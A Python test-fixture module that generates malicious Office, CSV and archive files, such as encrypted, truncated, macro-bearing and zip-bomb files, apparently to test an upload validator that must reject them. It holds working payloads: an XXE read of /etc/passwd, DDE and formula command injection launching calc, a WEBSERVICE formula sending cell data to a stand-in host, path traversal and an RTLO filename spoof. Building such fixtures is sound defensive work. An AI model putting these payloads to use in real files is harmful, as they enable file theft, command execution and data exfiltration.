"""Files that must not be taken in, each with the code of its reason; small, whatever they unpack to."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SECTOR = 512
LETTER = (
    "ỦY BAN NHÂN DÂN",
    "HUYỆN THAN UYÊN",
    "BÁO CÁO",
    "Kết quả công tác bảo đảm an ninh, trật tự năm 2023",
    "Xảy ra 12 vụ phạm tội về trật tự xã hội.",
)


def zipped(parts: Mapping[str, str | bytes]) -> bytes:
    """A zip of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def package(main: str, content_type: str, content: str, **more: str | bytes) -> dict[str, str | bytes]:
    """The parts of an Office package with one main part."""
    return {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{content_type}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="{main}"/></Relationships>',
        main: content,
        **more,
    }


def word_parts(*lines: str, head: str = "", body: str = "", content_type: str = _WORD_TYPE) -> dict:
    """The parts of a .docx with some paragraphs; `head` stands before its root, `body` behind them."""
    text = "".join(f'<w:p><w:r><w:t xml:space="preserve">{line}</w:t></w:r></w:p>' for line in lines)
    root = f'{head}<w:document xmlns:w="{_WORD}"><w:body>{text}{body}</w:body></w:document>'
    return package("word/document.xml", content_type, root)


def word(*lines: str) -> bytes:
    """A .docx with some paragraphs."""
    return zipped(word_parts(*lines))


def sheet_parts(rows: str, head: str = "", content_type: str = _SHEET_TYPE) -> dict:
    """The parts of an .xlsx with one sheet of raw rows."""
    book = (
        f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
        "</sheets></workbook>"
    )
    links = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    sheet = f'{head}<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData></worksheet>'
    return package("xl/workbook.xml", content_type, book) | {
        "xl/_rels/workbook.xml.rels": links,
        "xl/worksheets/sheet1.xml": sheet,
    }


def formula_sheet(formula: str) -> bytes:
    """A workbook whose only cell has that formula."""
    return zipped(sheet_parts(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'))


def million_rows() -> bytes:
    """A workbook with a value in a million rows."""
    rows = "".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(1, 1_000_001))
    return zipped(sheet_parts(rows))


def ole_file(streams: Mapping[str, bytes]) -> bytes:
    """A compound file with those streams under its root; each is padded to the least size of a stream."""
    contents = [content.ljust(4096, b"\x00") for content in streams.values()]
    chains: list[int] = [0xFFFFFFFD, 0xFFFFFFFE]
    starts = []
    for content in contents:
        first, count = len(chains), -(-len(content) // SECTOR)
        starts.append(first)
        chains += [*range(first + 1, first + count), 0xFFFFFFFE]
    header = bytearray(SECTOR)
    header[:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIII", header, 0x2C, 1, 1, 0, 4096, 0xFFFFFFFE)
    header[0x40:] = b"\xff" * (SECTOR - 0x40)
    struct.pack_into("<III", header, 0x40, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", header, 0x4C, 0)
    entries = b""
    for place, name in enumerate(("Root Entry", *streams)):
        written = name.encode("utf-16-le") + b"\x00\x00"
        right = place + 1 if 0 < place < len(streams) else 0xFFFFFFFF
        child = 1 if place == 0 and streams else 0xFFFFFFFF
        entry = (
            written.ljust(64, b"\x00")
            + struct.pack("<H", len(written))
            + (b"\x05\x01" if place == 0 else b"\x02\x01")
        )
        entry += struct.pack("<III", 0xFFFFFFFF, right, child) + b"\x00" * 36
        start, size = (0xFFFFFFFE, 0) if place == 0 else (starts[place - 1], len(contents[place - 1]))
        entries += entry + struct.pack("<IQ", start, size)
    table = b"".join(struct.pack("<I", each) for each in chains).ljust(SECTOR, b"\xff")
    return bytes(header) + table + entries.ljust(SECTOR, b"\x00") + b"".join(
        content.ljust(-(-len(content) // SECTOR) * SECTOR, b"\x00") for content in contents
    )  # fmt: skip


def locked_word() -> bytes:
    """A Word 97 file with the flag of encryption."""
    return ole_file({"WordDocument": struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0, 0, 0x0100)})


def locked_workbook() -> bytes:
    """An Excel 97 file whose first record after the beginning is that of a password."""
    begin = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0, 0, 0)
    return ole_file({"Workbook": begin + struct.pack("<HHH", 0x002F, 54, 1) + b"\x01" * 52})


def locked_package() -> bytes:
    """An encrypted .docx or .xlsx."""
    return ole_file({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x01" * 64})


def many_members() -> bytes:
    """A zip of sixty thousand empty parts."""
    return zipped(word_parts("a") | {f"word/media/{place}.png": b"" for place in range(60_000)})


def understated_bomb() -> bytes:
    """A workbook whose sheet claims to be small and unpacks to gigabytes."""
    parts = sheet_parts('<row r="1"><c r="A1"><v>1</v></c></row>' + " " * 60_000_000)
    data = bytearray(zipped(parts))
    real = struct.pack("<I", len(parts["xl/worksheets/sheet1.xml"]))
    while (place := data.find(real)) >= 0:
        data[place : place + 4] = struct.pack("<I", 1000)
    return bytes(data)


VBA = ole_file({"VBA": b"", "_VBA_PROJECT": b"\xcc\x61"})
_ENTITIES = f'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "{"&a;" * 9}"><!ENTITY c "{"&b;" * 9}">]>'
_EXTERNAL = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_FIELD = '<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'


def hostile_files() -> Iterator[tuple[str, str, bytes]]:
    """Name, code of the reason, and bytes of each."""
    report = word(*LETTER)
    yield "khoa.docx", "password", locked_package()
    yield "khoa.doc", "password", locked_word()
    yield "khoa.xls", "password", locked_workbook()
    yield "cut.docx", "truncated", report[: len(report) // 2]
    yield "cut.doc", "truncated", locked_word()[:700]
    yield "rong.docx", "empty", b""
    yield "trang.xlsx", "empty", b"\x00" * 4096
    yield "chuong trinh.docx", "unknown_type", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 8
    yield "anh.xlsx", "unsupported_type", b"\xff\xd8\xff\xe0" + b"\x00\x10JFIF" * 100
    yield "trang web.xls", "unsupported_type", b"<html><table><tr><td>12</td></tr></table></html>"
    yield "nen.docx", "archive_file", zipped({"bao cao.docx": report})
    yield "mat.docx", "secrecy_stamp", word("TỐI MẬT", *LETTER)
    yield (
        "bom.docx",
        "suspicious_package",
        zipped(word_parts(*LETTER) | {"word/media/a.bmp": b"\x00" * 60_000_000}),
    )
    yield (
        "bom long nhau.zip",
        "archive_file",
        zipped({"1.zip": zipped({"2.zip": zipped({"0": b"\x00" * 10_000_000})})}),
    )
    yield "bom noi doi.xlsx", "damaged", understated_bomb()
    yield "nhieu phan.docx", "suspicious_package", many_members()
    yield "ty tieng cuoi.docx", "suspicious_xml", zipped(word_parts(*LETTER, "&c;", head=_ENTITIES))
    yield "thuc the ngoai.docx", "suspicious_xml", zipped(word_parts(*LETTER, "&x;", head=_EXTERNAL))
    yield "thuc the ngoai.xlsx", "suspicious_xml", zipped(sheet_parts("<row/>", head=_EXTERNAL))
    yield (
        "macro.docm",
        "macros",
        zipped(word_parts(*LETTER, content_type=_MACRO_WORD) | {"word/vbaProject.bin": VBA}),
    )
    yield (
        "macro.xlsm",
        "macros",
        zipped(sheet_parts("<row/>", content_type=_MACRO_SHEET) | {"xl/vbaProject.bin": VBA}),
    )
    yield "macro trong.xlsm", "macros", zipped(sheet_parts('<row r="1"><c r="A1"><v>1</v></c></row>'))
    yield "macro an.docx", "macros", zipped(word_parts(*LETTER) | {"word/media/hinh.png": VBA})
    yield (
        "macro nhung.docx",
        "macros",
        zipped(word_parts(*LETTER) | {"word/embeddings/a.bin": zipped({"xl/vbaProject.bin": VBA})}),
    )
    yield "cong thuc.xlsx", "active_content", formula_sheet("cmd|'/C calc'!A0")
    yield "cong thuc.csv", "active_content", "đơn vị;số vụ\nTổ 1;=cmd|'/C calc'!A0\n".encode()
    yield "lay du lieu.xlsx", "active_content", formula_sheet("WEBSERVICE(&quot;http://a.b/?&quot;&amp;A2)")
    yield "truong.docx", "active_content", zipped(word_parts(*LETTER, body=_FIELD))
    yield "duong dan.docx", "suspicious_package", zipped(word_parts(*LETTER) | {"../../etc/cron.d/a": b"x"})
    yield "..\\..\\ra ngoai.docx", "odd_name", report
    yield "xuong\ndong.docx", "odd_name", report
    yield "bao cao\u202excod.exe", "odd_name", report
    yield "trieu dong.xlsx", "too_large", million_rows()
    yield "trieu dong.csv", "too_large", b"1;2;3;4\n" * 1_000_000
    yield "mot cau.docx", "too_large", word("Xảy ra 12 vụ trộm cắp, bắt 3 đối tượng; " * 50_000)


def good_reports() -> Iterator[tuple[str, bytes]]:
    """Reports that must be taken in beside them, under names that are only unusual."""
    for place, name in enumerate(
        (
            "bao cao.docx",
            "Ba\u0301o ca\u0301o (NFD).docx",
            "d" + "à" * 124 + ".docx",
            "50% 'số' & \"a\" #1 🙂.docx",
        )
    ):
        yield name, word(*LETTER[:-1], f"Xảy ra {12 + place} vụ phạm tội về trật tự xã hội.")
